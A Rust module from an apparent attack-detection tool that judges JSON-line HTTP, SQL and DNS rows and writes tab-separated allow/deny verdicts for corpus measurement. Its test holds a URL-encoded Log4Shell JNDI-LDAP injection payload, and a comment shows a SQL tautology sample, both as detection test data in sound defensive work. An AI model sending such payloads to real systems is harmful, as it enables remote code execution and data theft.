//! Messages as JSON lines, and their verdicts as tab-separated lines: for measuring on corpora. Each kind of row has a
//! file of its own; adding one is that file and one line of [`KINDS`].

use super::setup::Judge;
use super::verdict::Verdict;
use super::{dns, http, report, sql};
use crate::flow::Evidence;
use serde::Deserialize;
use serde_json::{Map, Value};
use std::io::{self, BufRead, Write};

/// One line: an id, and the field that tells its kind. What else it says is for others.
#[derive(Deserialize)]
pub(super) struct Row {
    id: String,
    #[serde(flatten)]
    fields: Map<String, Value>,
}

/// One kind of row.
struct Kind {
    /// The field that tells it.
    field: &'static str,
    /// Judges one row that has this field.
    judge: fn(&Judge, Row) -> io::Result<Verdict>,
}

/// Every kind of row.
static KINDS: &[Kind] = &[
    Kind { field: "request", judge: http::row },
    Kind { field: "sql", judge: sql::row },
    Kind { field: "seq", judge: dns::row },
];

impl Row {
    /// The text of a field; empty when there is none.
    pub(super) fn text(&self, field: &str) -> String {
        self.fields.get(field).and_then(Value::as_str).unwrap_or_default().to_owned()
    }

    /// Takes the value of a field; null when there is none.
    pub(super) fn of(mut self, field: &str) -> Value {
        self.fields.remove(field).unwrap_or_default()
    }
}

/// Judges every line and writes its verdict.
///
/// # Errors
/// When a line cannot be read, is not a row, or its verdict cannot be written.
pub(super) fn write(judge: &Judge, lines: impl BufRead, out: &mut impl Write) -> io::Result<()> {
    each(judge, lines, |id, verdict| writeln!(out, "{id}\t{}", columns(verdict)))
}

/// Judges every line and prints its verdict for people; whether all are allowed.
///
/// # Errors
/// As [`write`].
pub(super) fn show(judge: &Judge, lines: impl BufRead, out: &mut impl Write) -> io::Result<bool> {
    let mut allowed = true;
    each(judge, lines, |id, verdict| {
        allowed &= !verdict.denies();
        out.write_all(report::text(id, verdict).as_bytes())
    })?;
    Ok(allowed)
}

fn each(judge: &Judge, lines: impl BufRead, mut then: impl FnMut(&str, &Verdict) -> io::Result<()>) -> io::Result<()> {
    for (number, line) in lines.lines().enumerate() {
        let line = line?;
        let (id, verdict) =
            one(judge, &line).map_err(|error| io::Error::new(error.kind(), format!("line {}: {error}", number + 1)))?;
        then(&id, &verdict)?;
    }
    Ok(())
}

fn one(judge: &Judge, line: &str) -> io::Result<(String, Verdict)> {
    let row: Row = serde_json::from_str(line)?;
    let Some(kind) = KINDS.iter().find(|kind| row.fields.contains_key(kind.field)) else {
        let known: Vec<_> = KINDS.iter().map(|kind| kind.field).collect();
        return Err(io::Error::other(format!("none of the fields {}", known.join(", "))));
    };
    Ok((row.id.clone(), (kind.judge)(judge, row)?))
}

/// `allow|deny`, the answer with its reason and what was found, nanoseconds.
fn columns(verdict: &Verdict) -> String {
    let decision = if verdict.denies() { "deny" } else { "allow" };
    let why = [verdict.answer.as_str(), verdict.reason()].into_iter().map(str::to_owned);
    let why: Vec<String> = why.filter(|word| !word.is_empty()).chain(verdict.evidence.iter().map(sign)).collect();
    format!("{decision}\t{}\t{}", why.join(" "), verdict.cpu.as_nanos())
}

/// `sql-tautology:100@query-value[Percent]=1 or 1`: one word but for the match.
fn sign(evidence: &Evidence) -> String {
    let (hit, place) = (&evidence.hit, evidence.place.name());
    let matched = String::from_utf8_lossy(&evidence.excerpt.matched).escape_debug().to_string();
    format!("{}:{}@{place}{:?}={matched}", hit.signature, hit.weight.0, evidence.chain)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::judge::Terms;

    fn written(lines: &str) -> io::Result<String> {
        let mut out = Vec::new();
        write(&Judge::new(&Terms::default()).unwrap(), lines.as_bytes(), &mut out)?;
        Ok(String::from_utf8(out).unwrap())
    }

    #[test]
    fn rows_become_lines() {
        let row = |id: &str, path: &str| {
            format!(
                r#"{{"id": "{id}", "note": "x", "request": {{"method": "GET", "path": "{path}", "headers": [["Host", "h"]]}}}}"#
            )
        };
        let text = written(&[row("one", "/a"), row("two", "/?q=%24%7Bjndi:ldap://x/a%7D")].join("\n")).unwrap();
        let lines: Vec<Vec<&str>> = text.lines().map(|line| line.split('\t').collect()).collect();
        assert_eq!(lines[0][..3], ["one", "allow", "200"]);
        assert_eq!(lines[1][..2], ["two", "deny"]);
        assert!(lines[1][2].starts_with("403 attack-detected log4shell-jndi:100@query-value"), "{text}");
        assert!(lines.iter().all(|line| line[3].parse::<u64>().is_ok()));
    }

    #[test]
    fn line_of_no_kind_is_named() {
        let error = written("{\"id\": \"1\", \"other\": 1}").unwrap_err().to_string();
        assert!(error.contains("line 1") && error.contains("request"), "{error}");
    }
}
